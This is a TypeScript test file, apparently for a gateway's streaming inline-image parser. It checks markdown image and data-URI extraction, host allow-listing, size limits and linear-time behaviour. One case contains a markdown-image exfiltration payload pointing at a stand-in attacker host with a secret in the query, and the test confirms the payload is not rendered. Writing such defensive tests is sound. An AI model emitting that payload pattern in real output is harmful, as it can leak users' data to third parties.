import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { createInlineImages, type InlinePiece } from "../../../src/gateway/images.ts";
import { pixelUri } from "./harness.ts";

function readAll(parts: readonly string[], maxDataChars = 100_000): InlinePiece[] {
  const inline = createInlineImages(
    maxDataChars,
    (url) => new URL(url, "https://a.example").host === "a.example",
  );
  return joinText([...parts.flatMap((part) => inline.push(part)), ...inline.end()]);
}

function joinText(pieces: readonly InlinePiece[]): InlinePiece[] {
  const joined: InlinePiece[] = [];
  for (const piece of pieces) {
    const last = joined.at(-1);
    if (piece.kind === "text" && last?.kind === "text")
      joined[joined.length - 1] = { kind: "text", text: last.text + piece.text };
    else joined.push(piece);
  }
  return joined;
}

const cutAt = (text: string, at: readonly number[]) => {
  const places = [...new Set(at.map((place) => place % (text.length + 1)))].toSorted((a, b) => a - b);
  return [...places, text.length].map((end, index) => text.slice(places[index - 1] ?? 0, end));
};

const fragment = fc.constantFrom(
  "plain words ",
  "!",
  "[",
  "]",
  "(",
  ")",
  "![",
  "](",
  "![a](",
  "![a]",
  "\n",
  "`",
  "```\n",
  "data:",
  "data:image/",
  "https://a.example/b.png",
  ";base64,",
  pixelUri,
  `![p](${pixelUri})`,
  "![q](https://a.example/c.png)",
  "<",
  ">",
  ' "title"',
  "🦜",
  "AAAA",
);

describe("inline images", () => {
  it.each<[string, InlinePiece[]]>([
    ["no picture", [{ kind: "text", text: "no picture" }]],
    [
      `a ![x](${pixelUri}) b`,
      [
        { kind: "text", text: "a " },
        { kind: "image", url: pixelUri, source: "" },
        { kind: "text", text: " b" },
      ],
    ],
    [`![](<${pixelUri}>)`, [{ kind: "image", url: pixelUri, source: "" }]],
    [`![x]( ${pixelUri} "title")`, [{ kind: "image", url: pixelUri, source: "" }]],
    [`![x](${pixelUri.slice(0, 40)}\n${pixelUri.slice(40)})`, [{ kind: "image", url: pixelUri, source: "" }]],
    [
      "![a [b] c](https://a.example/x.png)",
      [
        {
          kind: "image",
          url: "https://a.example/x.png",

          source: "![a [b] c](https://a.example/x.png)",
        },
      ],
    ],
    [
      '![x](https://a.example/x.png "t")',
      [
        {
          kind: "image",
          url: "https://a.example/x.png",

          source: '![x](https://a.example/x.png "t")',
        },
      ],
    ],
    [
      "![x](https://attacker.example/?d=secret)",
      [{ kind: "text", text: "![x](https://attacker.example/?d=secret)" }],
    ],
    ["![x](relative.png)", [{ kind: "text", text: "![x](relative.png)" }]],
    ["![x](/files/b.png)", [{ kind: "image", url: "/files/b.png", source: "![x](/files/b.png)" }]],
    ["`![x](/files/b.png)`", [{ kind: "text", text: "`![x](/files/b.png)`" }]],
    ["![x](//b.example/c.png)", [{ kind: "text", text: "![x](//b.example/c.png)" }]],
    ["![x]\n(https://a.example/x.png)", [{ kind: "text", text: "![x]\n(https://a.example/x.png)" }]],
    ["![x](https://a.example/x.png", [{ kind: "text", text: "![x](https://a.example/x.png" }]],
    [
      `see ${pixelUri}.`,
      [
        { kind: "text", text: "see " },
        { kind: "image", url: `${pixelUri}.`, source: "" },
      ],
    ],
    ["a data:image/png address", [{ kind: "text", text: "a data:image/png address" }]],
    ["`![x](https://a.example/x.png)`", [{ kind: "text", text: "`![x](https://a.example/x.png)`" }]],
    [`![x](${pixelUri.slice(0, 50)}`, [{ kind: "lost-image", why: "unfinished" }]],
  ])("%s", (text, expected) => {
    expect(readAll([text])).toEqual(expected);
    expect(readAll([...Array(text.length).keys()].map((at) => text[at] ?? ""))).toEqual(expected);
  });

  it("are the same however the text is split", () => {
    fc.assert(
      fc.property(
        fc.array(fragment, { maxLength: 12 }),
        fc.array(fc.nat(), { maxLength: 30 }),
        (parts, at) => {
          const text = parts.join("");
          expect(readAll(cutAt(text, at))).toEqual(readAll([text]));
        },
      ),
      { numRuns: 2000 },
    );
  });

  it("leave no base64 in the text, and lose no other text", () => {
    fc.assert(
      fc.property(fc.array(fragment, { maxLength: 12 }), (parts) => {
        const pieces = readAll([parts.join("")]);
        const shown = pieces.map((piece) => (piece.kind === "text" ? piece.text : "")).join("");
        expect(shown).not.toContain(pixelUri.slice(22));
        if (pieces.every((piece) => piece.kind === "text")) expect(shown).toBe(parts.join(""));
      }),
      { numRuns: 2000 },
    );
  });

  it("over the limit are dropped completely", () => {
    const text = `before ![x](data:image/png;base64,${"A".repeat(5000)}) after`;
    const expected = [
      { kind: "text", text: "before " },
      { kind: "lost-image", why: "too-large" },
      { kind: "text", text: " after" },
    ];
    expect(readAll([text], 1000)).toEqual(expected);
    expect(readAll(text.match(/.{1,7}/gs) ?? [], 1000)).toEqual(expected);
  });

  it("take linear time", () => {
    const time = (bytes: number) => {
      const parts = [
        `![x](data:image/png;base64,`,
        ...Array.from({ length: bytes / 16 }, () => "QUJDREVGR0hJSktM"),
        ")",
      ];
      const startedAt = performance.now();
      readAll(parts, 1e9);
      return performance.now() - startedAt;
    };
    time(1 << 18);
    const small = Math.min(time(1 << 20), time(1 << 20), time(1 << 20));
    const large = Math.min(time(1 << 23), time(1 << 23));
    // The text is eight times as long. Quadratic time would be 64 times as long.
    expect(large / small).toBeLessThan(24);
  });
});
